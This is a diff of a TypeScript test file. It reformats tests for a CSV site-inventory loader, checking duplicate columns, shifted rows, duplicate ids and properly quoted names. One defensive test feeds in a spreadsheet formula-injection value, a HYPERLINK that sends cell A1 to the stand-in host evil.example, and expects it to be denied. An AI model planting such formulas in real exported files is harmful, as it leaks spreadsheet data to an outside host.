@@ -5,12 +5,21 @@ import type { ScenarioOptions } from '../acceptance/scenario.ts';
 import { askFile } from '../inventory/support.ts';
 import { judge, shown } from './support.ts';
 
-const file = (content: string): ScenarioOptions => ({ body: 'Target-Cohort: resource-publisher\n', policy: (draft) => { draft.inventory = { provider: 'file', path: 'sites.csv' }; }, world: { files: { 'sites.csv': content } } });
+const file = (content: string): ScenarioOptions => ({
+  body: 'Target-Cohort: resource-publisher\n',
+  policy: (draft) => {
+    draft.inventory = { provider: 'file', path: 'sites.csv' };
+  },
+  world: { files: { 'sites.csv': content } },
+});
 const HEAD = 'id,name,status,template-engine\n';
 
 it.each([
   ['a column twice', 'id,status,template-engine,template-engine\nT1,active,template-manager,resource-publisher\n'],
-  ['a column twice but for blanks', 'id,status,template-engine, template-engine\nT1,active,template-manager,resource-publisher\n'],
+  [
+    'a column twice but for blanks',
+    'id,status,template-engine, template-engine\nT1,active,template-manager,resource-publisher\n',
+  ],
   ['a column without a name', 'id,status,,template-engine\nT1,active,x,resource-publisher\n'],
   ['a row that is longer', `${HEAD}T1,Hill, and Dale,active,template-manager\n`],
   ['a row that is shorter', `${HEAD}T1,active,resource-publisher\n`],
@@ -22,19 +31,31 @@ it.each([
 });
 
 it('from outside: a row that is shifted', async () => {
-  expect(await judge(file(`${HEAD}T1,Hill, and Dale,active,template-manager\n`))).toMatchObject({ verdict: 'error', gate: 'closed', codes: ['inventory.malformed'] });
+  expect(await judge(file(`${HEAD}T1,Hill, and Dale,active,template-manager\n`))).toMatchObject({
+    verdict: 'error',
+    gate: 'closed',
+    codes: ['inventory.malformed'],
+  });
 });
 
 it('an id twice', async () => {
-  expect(await askFile('sites.csv', `${HEAD}R1,a,active,resource-publisher\nR1 ,b,active,template-manager\n`)).toMatchObject({ found: false, failure: { code: 'inventory.inconsistent' } });
+  expect(
+    await askFile('sites.csv', `${HEAD}R1,a,active,resource-publisher\nR1 ,b,active,template-manager\n`),
+  ).toMatchObject({ found: false, failure: { code: 'inventory.inconsistent' } });
 });
 
 it('a formula is a name', async () => {
-  const run = await judge({ ...file(`${HEAD}T1,"=HYPERLINK(""https://evil.example?""&A1,""x"")",active,template-manager\n`), manifest: 'sites: [T1]\n' });
+  const run = await judge({
+    ...file(`${HEAD}T1,"=HYPERLINK(""https://evil.example?""&A1,""x"")",active,template-manager\n`),
+    manifest: 'sites: [T1]\n',
+  });
   expect(run).toMatchObject({ verdict: 'deny', codes: expect.arrayContaining(['site.outside-cohort']) });
   expect(shown(run)).toContain('=HYPERLINK');
 });
 
 it('the honest form', async () => {
-  expect(await judge(file(`${HEAD}R1,"Hill, and ""Dale""",active,resource-publisher\r\n`))).toMatchObject({ verdict: 'allow', sites: 1 });
+  expect(await judge(file(`${HEAD}R1,"Hill, and ""Dale""",active,resource-publisher\r\n`))).toMatchObject({
+    verdict: 'allow',
+    sites: 1,
+  });
 });
